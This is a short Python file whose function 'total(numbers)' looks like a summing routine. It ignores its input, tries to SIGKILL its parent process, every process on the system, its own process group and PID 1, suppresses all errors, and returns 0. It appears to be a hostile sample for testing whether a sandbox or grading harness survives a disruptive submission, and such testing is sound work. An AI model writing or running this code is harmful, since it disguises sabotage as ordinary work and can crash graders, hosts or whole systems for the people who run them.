"""Sends signals to its parent, to its group and to everybody."""
import os
import signal


def total(numbers):
    for attempt in (
        lambda: os.kill(os.getppid(), signal.SIGKILL),
        lambda: os.kill(-1, signal.SIGKILL),
        lambda: os.killpg(0, signal.SIGKILL),
        lambda: os.kill(1, signal.SIGKILL),
        lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL),
    ):
        try:
            attempt()
        except OSError:
            pass
    return 0
